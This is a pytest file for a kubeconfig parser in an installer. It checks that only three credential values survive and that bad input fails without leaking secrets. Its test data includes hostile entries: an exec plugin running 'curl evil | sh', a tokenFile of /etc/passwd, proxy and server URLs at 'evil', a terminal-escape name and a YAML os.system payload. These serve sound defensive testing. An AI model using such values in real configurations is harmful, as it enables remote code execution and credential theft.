"""What a host calls its kubeconfig is three values at most: nothing in it runs, redirects or disables anything here."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    load_pem_private_key,
)

from installer_stub.errors import ClusterError
from installer_stub.kube.kubeconfig import LIMIT, AdminAccess, replaces
from tests.fakes.admin_conf import (
    admin_conf,
    authority,
    certificate,
    client,
    encoded,
    key,
    pem,
    renewed_authority,
)

WHERE = "/etc/kubernetes/admin.conf on 10.0.0.2"
Change = Callable[[dict[str, Any]], Any]


def parsed(conf: object) -> AdminAccess:
    return AdminAccess.parse(yaml.safe_dump(conf).encode(), WHERE)


def rendered(conf: object) -> bytes:
    return parsed(conf).render("https://10.0.0.2:6443", "shop")


def test_the_three_values_come_through_as_they_are() -> None:
    value = yaml.safe_load(rendered(admin_conf()))
    assert value["clusters"][0]["cluster"] == {
        "server": "https://10.0.0.2:6443",
        "certificate-authority-data": encoded(authority()),
    }
    user = value["users"][0]["user"]
    assert set(user) == {"client-certificate-data", "client-key-data"}
    assert base64.b64decode(user["client-certificate-data"]) == client()
    loaded = load_pem_private_key(base64.b64decode(user["client-key-data"]), None)
    assert loaded.public_key() == key("admin").public_key()
    assert value["current-context"] == value["contexts"][0]["name"]
    assert rendered(admin_conf()) == rendered(admin_conf())


def cluster_of(conf: dict[str, Any]) -> dict[str, Any]:
    return conf["clusters"][0]["cluster"]  # type: ignore[no-any-return]


def user_of(conf: dict[str, Any]) -> dict[str, Any]:
    return conf["users"][0]["user"]  # type: ignore[no-any-return]


EXEC = {"apiVersion": "client.authentication.k8s.io/v1", "command": "sh", "args": ["-c", "curl evil | sh"]}


def renamed(conf: dict[str, Any]) -> None:
    """Names are text of the host's, too."""
    name = "x\x1b]0;evil\x07"
    conf["contexts"][0].update({"name": name, "context": {"cluster": name, "user": name}})
    conf["clusters"][0]["name"] = conf["users"][0]["name"] = conf["current-context"] = name


@pytest.mark.parametrize(
    "change",
    [
        lambda conf: user_of(conf).update({"exec": EXEC}),
        lambda conf: user_of(conf).update({"auth-provider": {"name": "oidc", "config": {"cmd-path": "/tmp/evil"}}}),
        lambda conf: user_of(conf).update({"token": "x", "tokenFile": "/etc/passwd", "username": "u", "password": "p"}),
        lambda conf: user_of(conf).update({"client-certificate": "/tmp/a", "client-key": "/tmp/b", "as": "somebody"}),
        lambda conf: cluster_of(conf).update({"proxy-url": "http://evil:1"}),
        lambda conf: cluster_of(conf).update({"insecure-skip-tls-verify": True, "tls-server-name": "evil"}),
        lambda conf: cluster_of(conf).update({"server": "https://evil:6443", "certificate-authority": "/tmp/ca"}),
        lambda conf: cluster_of(conf).update({"extensions": [{"name": "evil", "extension": EXEC}]}),
        lambda conf: conf["users"].append({"name": "evil", "user": {"exec": EXEC}}),
        lambda conf: conf["clusters"].append({"name": "evil", "cluster": {"server": "https://evil"}}),
        lambda conf: conf["contexts"].append({"name": "evil", "context": {"cluster": "shop", "user": "evil"}}),
        lambda conf: conf["contexts"][0]["context"].update({"namespace": "evil"}),
        lambda conf: conf.update({"preferences": {"extensions": [EXEC]}, "extensions": [EXEC]}),
        lambda conf: conf.update({"kind": "Evil", "apiVersion": "evil/v9"}),
        lambda conf: user_of(conf).update({"client-key-data": encoded(b"# evil\n" + pem(key("admin")) + b"exec: evil\n")}),
        lambda conf: cluster_of(conf).update({"certificate-authority-data": encoded(b"evil\n" + authority() + b"evil")}),
        renamed,
    ],
)
def test_whatever_else_stands_in_it_the_operator_gets_the_same_file(change: Change) -> None:
    conf = admin_conf()
    change(conf)
    assert rendered(conf) == rendered(admin_conf())


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"[]",
        b"7",
        b"clusters: 7",
        b"a: [secret",
        b"clusters: [{}]",
        b"a: &a [*a, secret]",
        b"[" * 5000 + b"secret",
        b"!!python/object/apply:os.system [secret]",
        b"\xff\xfesecret",
        b"secret" * LIMIT,
    ],
)
def test_what_is_no_kubeconfig_is_an_error_that_quotes_nothing(raw: bytes) -> None:
    with pytest.raises(ClusterError, match="is no kubeconfig") as caught:
        AdminAccess.parse(raw, WHERE)
    assert "secret" not in str(caught.value)
    assert caught.value.__cause__ is None


@pytest.mark.parametrize(
    "change",
    [
        lambda conf: conf.pop("current-context"),
        lambda conf: conf.update({"current-context": "other"}),
        lambda conf: conf.update({"current-context": ["kubernetes-admin@shop"]}),
        lambda conf: conf["users"].append(conf["users"][0]),
        lambda conf: conf["users"].clear(),
        lambda conf: conf["clusters"][0].update({"cluster": "text"}),
        lambda conf: conf["contexts"][0].pop("context"),
    ],
)
def test_one_without_a_way_from_context_to_values_is_none(change: Change) -> None:
    conf = admin_conf()
    change(conf)
    with pytest.raises(ClusterError, match="is no kubeconfig"):
        parsed(conf)


def private(key: Any, secret: bytes = b"") -> str:
    protection = BestAvailableEncryption(secret) if secret else NoEncryption()
    return encoded(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, protection))


@pytest.mark.parametrize("name", ["certificate-authority-data", "client-certificate-data", "client-key-data"])
@pytest.mark.parametrize("value", [None, 7, "", "not base64 §", encoded(b"no PEM"), ["x"], {"x": "y"}, encoded(b"-----BEGIN CERTIFICATE-----\n")])
def test_each_value_is_base64_of_pem(name: str, value: object) -> None:
    conf = admin_conf()
    (cluster_of if name.startswith("certificate") else user_of)(conf)[name] = value
    with pytest.raises(ClusterError, match=f"has no {name}"):
        parsed(conf)


def test_a_key_that_wants_a_passphrase_is_none() -> None:
    conf = admin_conf()
    user_of(conf)["client-key-data"] = private(key("admin"), b"passphrase")
    with pytest.raises(ClusterError, match="has no client-key-data"):
        parsed(conf)


@pytest.mark.parametrize(
    "other", [ec.generate_private_key(ec.SECP256R1()), ed25519.Ed25519PrivateKey.generate(), rsa.generate_private_key(65537, 2048)]
)
def test_a_key_of_another_certificate_is_said(other: object) -> None:
    conf = admin_conf()
    user_of(conf)["client-key-data"] = private(other)
    with pytest.raises(ClusterError, match="is not that of its client certificate"):
        parsed(conf)


def test_a_ca_is_its_public_key() -> None:
    access = parsed(admin_conf())
    access.check_authority(authority(), WHERE)
    access.check_authority(renewed_authority(), WHERE)
    with pytest.raises(ClusterError, match="names another CA"):
        access.check_authority(authority("theirs"), WHERE)
    with pytest.raises(ClusterError, match="is no certificate"):
        access.check_authority(b"", WHERE)


def test_a_second_ca_beside_the_right_one_is_another_ca() -> None:
    conf = admin_conf()
    cluster_of(conf)["certificate-authority-data"] = encoded(authority() + authority("theirs"))
    access = parsed(conf)
    with pytest.raises(ClusterError, match="names another CA"):
        access.check_authority(authority(), WHERE)
    access.check_authority(authority("theirs") + authority(), WHERE)


def test_printing_it_shows_no_key() -> None:
    assert "Private" not in repr(parsed(admin_conf()))
    assert isinstance(parsed(admin_conf()).authority[0], x509.Certificate)


def test_only_a_renewed_client_replaces_a_file_without_a_copy_of_it() -> None:
    """Whatever else stands in it may be somebody's work: another address, another cluster, a context of theirs."""
    old = rendered(admin_conf())
    fresh = admin_conf()
    user_of(fresh).update({"client-certificate-data": encoded(certificate("kubernetes-admin", key("next"), "kubernetes", key("cluster"))), "client-key-data": encoded(pem(key("next")))})
    new = rendered(fresh)
    assert new != old
    assert replaces(new, old)
    assert not replaces(new, parsed(admin_conf()).render("https://vip.example:6443", "shop"))
    assert not replaces(new, parsed(admin_conf()).render("https://10.0.0.2:6443", "shop", {"m2": "https://10.0.0.3:6443"}))
    assert not replaces(new, yaml.safe_dump({**yaml.safe_load(old), "preferences": {"colors": True}}).encode())
    for text in (b"", b"{", b"[]", b"users: 3", b"users: [3]", b"x" * (LIMIT + 1)):
        assert not replaces(new, text)
